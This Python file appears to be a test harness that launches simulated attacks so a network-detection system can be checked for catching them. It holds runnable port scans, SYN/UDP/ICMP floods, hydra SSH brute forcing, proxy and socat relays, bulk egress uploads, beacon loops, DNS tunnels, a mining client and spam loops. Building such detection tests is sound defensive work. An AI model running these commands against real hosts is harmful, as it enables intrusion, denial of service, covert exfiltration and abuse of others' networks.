# SPDX-License-Identifier: Apache-2.0
"""Attacks of detection_live.py, each by a real tool where there is one, with rates and targets that vary from run to run."""
import random

from harness import wait_until
from live_field import ECHO, FAR, IPERF, POOL, SMTP, WEB, port_of_run
from sshd_host import PORT

UPLOAD = "import socket,sys\ns=socket.create_connection((sys.argv[1],9100))\nb=b'x'*1000000\nfor _ in range(int(sys.argv[2])): s.sendall(b)\n"
MAIL = ("import socket,sys,time\nfor a in sys.argv[2:]:\n s=socket.create_connection((a,25)); s.sendall(b'm'*30000); s.close(); "
        "time.sleep(float(sys.argv[1]))\n")
CALLS = ("import time,urllib.request,random,sys\nfor _ in range(26):\n urllib.request.urlopen('http://203.0.113.9:9200/300').read(); "
         "time.sleep(1.3+random.random()*float(sys.argv[1]))\n")
TUNNEL = """import random, socket, sys, time
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(0.5)
for n in range(150):
    label = bytes(random.choice(b"abcdefghijklmnop234567") for _ in range(55))
    sock.sendto(n.to_bytes(2, "big") + bytes.fromhex("0100000100000000000037") + label + b"\\2t1\\7example\\3org\\0\\0\\x10\\0\\1", (sys.argv[1], 53))
    sock.recv(2048)
    time.sleep(random.random() * 0.1)
"""
# A client says where to: a line with the address, then what it wants there. Every block gets PAD per cent more.
LEGS = """import os, socket, subprocess, sys, threading
LEG = '''import os, socket, sys, threading
s = socket.create_connection((sys.argv[1], 9200))
def up():
    while (data := os.read(0, 65536)): s.sendall(data)
    s.shutdown(socket.SHUT_WR)
threading.Thread(target=up, daemon=True).start()
while (data := s.recv(65536)):
    while data: data = data[os.write(1, data):]
'''
def serve(conn):
    where = b""
    while not where.endswith(b"\\n"): where += conn.recv(1)
    leg = subprocess.Popen([sys.executable, "-c", LEG, where.decode().strip()], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
    def up():
        while (data := conn.recv(65536)): leg.stdin.write(data)
        leg.stdin.close()
    threading.Thread(target=up, daemon=True).start()
    while (data := leg.stdout.read(65536)): conn.sendall(data)
    conn.shutdown(socket.SHUT_RDWR)
listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
while True: threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
"""
PADDED = """import socket, sys, threading
def copy(a, b, pad):
    while (data := a.recv(65536)): b.sendall(data + b"p" * (len(data) * pad // 100))
    b.shutdown(socket.SHUT_WR)
def serve(conn):
    where = b""
    while not where.endswith(b"\\n"): where += conn.recv(1)
    far = socket.create_connection((where.decode().strip(), 9200))
    threading.Thread(target=copy, args=(conn, far, 0), daemon=True).start()
    copy(far, conn, int(sys.argv[2]))
listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
while True: threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
"""
CLIENT = """import socket, sys
for address in sys.argv[3:]:
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), 30) as s:
        s.sendall(address.encode() + b"\\n" + b"GET /400000 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
        while s.recv(65536): pass
"""
UDP_RELAY = """import select, socket, sys
near = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
near.bind(("0.0.0.0", int(sys.argv[1])))
far, client = {}, None
while True:
    for sock in select.select([near, *far.values()], [], [])[0]:
        data, peer = sock.recvfrom(65536)
        if sock is not near:
            near.sendto(data, client)
            continue
        client, (address, payload) = peer, data.split(b"|", 1)
        if address not in far:
            far[address] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            far[address].connect((address.decode(), 9300))
        far[address].send(payload)
"""
UDP_SENDER = """import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(0.2)
for n in range(200):
    sock.sendto(b"x" * 1000, (sys.argv[1], int(sys.argv[2])))
    try: sock.recv(2048)
    except TimeoutError: pass
"""
UDP_CLIENT = """import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(0.2)
for n in range(1400):
    sock.sendto(sys.argv[3 + n % (len(sys.argv) - 3)].encode() + b"|" + b"x" * 1000, (sys.argv[1], int(sys.argv[2])))
    try: sock.recv(2048)
    except TimeoutError: pass
"""
MINER = """import json, random, socket, sys, time
pool = socket.create_connection((sys.argv[1], int(sys.argv[2]))).makefile("rw")
def say(number, method, *parameters):
    pool.write(json.dumps({"id": number, "method": method, "params": parameters}) + "\\n")
    pool.flush()
    pool.readline()
say(1, "mining.subscribe", "miner/1.0")
say(2, "mining.authorize", "wallet.rig", "x")
for n in range(8):
    say(3 + n, "mining.submit", "wallet.rig", str(n), "00000001", "5f5e1000", "%08x" % random.getrandbits(32))
    time.sleep(random.random())
"""


def proxy(command, scheme, config=None):
    """A proxy on a port of this run that the far side uses for seven places."""
    def start(field):
        port = port_of_run()
        path = field.file("proxy.conf", config.format(port=port, dir=field.rig.dir, me=field.inside.v4)) if config else None
        daemon = field.login("exec " + command.format(port=port, config=path))
        field.listening(port, daemon)
        field.fetch_through(["--proxytunnel", "--proxy" if scheme == "http" else "--socks5", f"{field.inside.v4}:{port}"], random.sample(FAR, 7))
        return daemon
    return start


def socat(field):
    port, places = port_of_run(), random.sample(FAR, 7)
    legs = "".join(f"socat TCP-LISTEN:{port + n},fork,reuseaddr TCP:{a}:{WEB} & " for n, a in enumerate(places))
    daemon = field.login(legs + "wait")
    for n in range(len(places)):
        field.listening(port + n, daemon)
    field.fetch(range(port, port + len(places)))
    return daemon


def socat_udp(field):
    """A tunnel of datagrams to each of seven places."""
    port, places = port_of_run(), random.sample(FAR[:20], 7)
    daemon = field.login("".join(f"socat -T 5 UDP4-LISTEN:{port + n},fork,reuseaddr UDP4:{a}:{ECHO} & " for n, a in enumerate(places)) + "wait")
    for n in range(len(places)):
        field.listening(port + n, daemon, "u")
        field.outside.run("python3", "-c", UDP_SENDER, field.inside.v4, port + n)
    return daemon


def own_relay(text, *arguments):
    def start(field):
        port = port_of_run()
        daemon = field.python(text, port, *arguments)
        field.listening(port, daemon)
        field.outside.run("python3", "-c", CLIENT, field.inside.v4, port, *random.sample(FAR, 7))
        return daemon
    return start


def udp_relay(field):
    port = port_of_run()
    daemon = field.python(UDP_RELAY, port)
    field.listening(port, daemon, "u")
    field.outside.run("python3", "-c", UDP_CLIENT, field.inside.v4, port, *random.sample(FAR[:20], 7))
    return daemon


def ssh_socks(field):
    port = port_of_run()
    client = field.host.hold("alice", "-D", port)
    wait_until("the client's port", lambda: f":{port}" in field.outside.run("ss", "-ltn").stdout)
    field.fetch_through(["--socks5", f"127.0.0.1:{port}"], [random.choice(FAR)], 1000)
    return client


def ssh_jump(field):
    return field.rig.spawn(*field.outside.command("ssh", "-F", field.host.dir / "jump_config", "-J", f"alice@{field.inside.v4}:{PORT}", "-p", "22",
                                                  f"root@{random.choice(FAR)}", "sleep 15"))


def ssh_remote(field):
    port = port_of_run()
    client = field.host.hold("alice", "-R", f"0.0.0.0:{port}:{random.choice(FAR)}:{WEB}")
    field.listening(port, client)
    field.fetch([port] * 3)
    return client


def guesses(field):
    words = field.file("words", "".join(f"wrong{random.random()}\n" for _ in range(100)))
    return field.login(f"timeout 55 hydra -q -I -t 4 -l bob -P {words} ssh://{field.inside.v4}:{PORT} > /dev/null 2>&1")


def hping(mode):
    return lambda f: f.login(f"timeout 8 hping3 -q {mode} -i u{random.choice((20, 40, 60))} {random.choice(FAR)} > /dev/null 2>&1")


def nmap(options):
    return lambda f: f.login(f"timeout 40 nmap -n -Pn --max-retries 0 -T{random.choice((3, 4, 5))} {options} > /dev/null")


def masscan(f):
    return f.login(f"timeout 20 masscan 203.0.113.0/26 -p 80,443,8080 --rate {random.choice((100, 500, 2000))} --wait 0 -e {f.inside.interface} "
                   f"--source-ip {f.inside.v4} --router-mac {f.outside.mac} > /dev/null 2>&1")


def shell_scan(f):
    return f.login(f"for p in $(seq {random.randint(30, 60)} 400); do (exec 3<>/dev/tcp/192.0.2.1/$p) 2> /dev/null; sleep 0.0{random.randint(1, 9)}; done")


def slow_scan(f):
    """A probe every one to four seconds, ports in no order."""
    return f.login(f"for p in $(shuf -n 18 -i 40-900); do (exec 3<>/dev/tcp/{random.choice(FAR)}/$p) 2> /dev/null; sleep $((RANDOM % 3 + 1)).$((RANDOM % 10)); done")


def mail_by_shell(f):
    return f.login(f"for a in {' '.join(random.sample(FAR, 20))}; do exec 3<>/dev/tcp/$a/{SMTP}; printf %020000d 1 >&3; exec 3>&-; done")


class WithServer:
    """An attack whose far end is made for it, and ends with it."""

    def __init__(self, client, server):
        self.client, self.server = client, server

    def stop(self, grace):
        self.client.stop(grace)
        self.server.stop(grace)


def iodine(f):
    """A real tunnel through queries, and pings through that."""
    server, net = random.choice(FAR[43:]), f"10.53.{random.randint(1, 250)}"
    password = f"pw{random.random()}"
    daemon = f.rig.spawn(*f.outside.command("timeout", "60", "iodined", "-f", "-c", "-P", password, "-l", server, f"{net}.1/24", "t1.example.org"))
    wait_until("iodined's interface", lambda: f"{net}.1" in f.outside.run("ip", "-o", "address").stdout)
    return WithServer(f.login(
        f"mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200; timeout 40 iodine -f -r -P {password} {server} t1.example.org > /dev/null 2>&1 & "
        f"for i in $(seq 20); do ping -q -c 20 -i 0.05 -s 800 -W 1 {net}.1 > /dev/null 2>&1; sleep 0.5; done; wait"), daemon)


def calls_by_curl(f):
    return f.login(f"for i in $(seq 26); do curl -s -o /dev/null http://203.0.113.9:{WEB}/300; sleep 1.{random.randint(2, 5)}; done")


DANTE = """logoutput: /dev/null
internal: {me} port = {port}
external: {me}
clientmethod: none
socksmethod: none
user.privileged: root
user.unprivileged: nobody
client pass {{ from: 0.0.0.0/0 to: 0.0.0.0/0 }}
socks pass {{ from: 0.0.0.0/0 to: 0.0.0.0/0 }}
"""
SQUID = """http_port {port}
http_access allow all
cache deny all
access_log none
cache_log /dev/null
pid_filename none
netdb_filename none
coredump_dir {dir}
max_filedescriptors 1024
"""
TINY = "Port {port}\nListen {me}\nTimeout 60\nMaxClients 50\n"
# name: (rule, tool, program in the finding, start, seconds)
ATTACKS = {
    "scan: nmap connect": ("scan", "nmap", "nmap", nmap("-sT -p 1-300 192.0.2.1"), 20),
    "scan: nmap SYN": ("scan", "nmap", "nmap", nmap("-sS -p 1-300 192.0.2.1"), 20),
    "scan: nmap across": ("scan", "nmap", "nmap", nmap("-sT -p 23 203.0.113.1-60"), 20),
    "scan: nmap slow": ("scan", "nmap", "nmap", nmap("-sT --scan-delay 1s -p 101-130 192.0.2.1"), 40),
    "scan: nmap renamed": ("scan", "nmap", ".x", lambda f: f.login(
        f"cp /usr/bin/nmap {f.rig.dir}/.x; exec {f.rig.dir}/.x --datadir /usr/share/nmap -n -Pn -sT --max-retries 0 -p 1-300 192.0.2.1 > /dev/null"), 20),
    "scan: a fork a connection": ("scan", "bash", "bash", shell_scan, 30),
    "scan: masscan": ("scan", "masscan", "masscan", masscan, 20),
    "scan: slow, with jitter": ("scan", "bash", "bash", slow_scan, 75),
    "flood: SYN": ("flood", "hping3", "hping3", hping("-S -p 80"), 15),
    "flood: UDP": ("flood", "hping3", "hping3", hping("--udp -p 5300 -d 100"), 15),
    "flood: ICMP": ("flood", "hping3", "hping3", hping("--icmp"), 15),
    "brute force: hydra": ("brute-force", "hydra", "hydra", guesses, 60),
    "relay: ssh -D": ("ssh-relay", "ssh", "sshd", ssh_socks, 15),
    "relay: ssh -J": ("ssh-relay", "ssh", "sshd", ssh_jump, 15),
    "relay: ssh -R": ("ssh-relay", "ssh", "sshd", ssh_remote, 15),
    "relay: microsocks": ("relay", "microsocks", "microsocks", proxy("microsocks -i 0.0.0.0 -p {port}", "socks"), 30),
    "relay: dante": ("relay", "danted", "danted", proxy("danted -f {config}", "socks", DANTE), 30),
    "relay: squid": ("relay", "squid", "squid", proxy("squid -N -f {config}", "http", SQUID), 30),
    "relay: tinyproxy": ("relay", "tinyproxy", "tinyproxy", proxy("tinyproxy -d -c {config} > /dev/null", "http", TINY), 30),
    "relay: socat": ("relay", "socat", "socat", socat, 30),
    "relay: socat, UDP": ("relay", "socat", "socat", socat_udp, 30),
    "relay: over a pipe": ("relay", "python3", "python3", own_relay(LEGS), 30),
    "relay: padded by a tenth": ("relay", "python3", "python3", own_relay(PADDED, 10), 30),
    "relay: UDP": ("relay", "python3", "python3", udp_relay, 30),
    "egress: 600 MB": ("egress", "python3", "python3", lambda f: f.python(UPLOAD, random.choice(FAR), 600), 60),
    "egress: iperf3": ("egress", "iperf3", "iperf3", lambda f: f.login(f"iperf3 -c {random.choice(FAR)} -p {IPERF} -n 600M > /dev/null"), 60),
    "egress: curl": ("egress", "curl", "curl", lambda f: f.login(
        f"head -c 600000000 /dev/zero | curl -s -o /dev/null -T - http://{random.choice(FAR)}:{WEB}/put"), 60),
    "beacon": ("beacon", "python3", "python3", lambda f: f.python(CALLS, random.choice((0.02, 0.1, 0.2))), 60),
    "beacon: curl in a shell": ("beacon", "curl", "curl", calls_by_curl, 60),
    "DNS tunnel": ("dns-tunnel", "python3", "python3", lambda f: f.python(TUNNEL, random.choice(FAR[:20])), 40),
    "DNS tunnel: iodine": ("dns-tunnel", "iodine", "iodine", iodine, 40),
    "mining: Stratum": ("mining", "python3", "python3", lambda f: f.python(MINER, random.choice(FAR), POOL), 30),
    "spam: by a shell": ("spam", "bash", "bash", mail_by_shell, 30),
    "spam": ("spam", "python3", "python3", lambda f: f.python(MAIL, random.choice((0.05, 0.2)), *random.sample(FAR, 14)), 30),
}
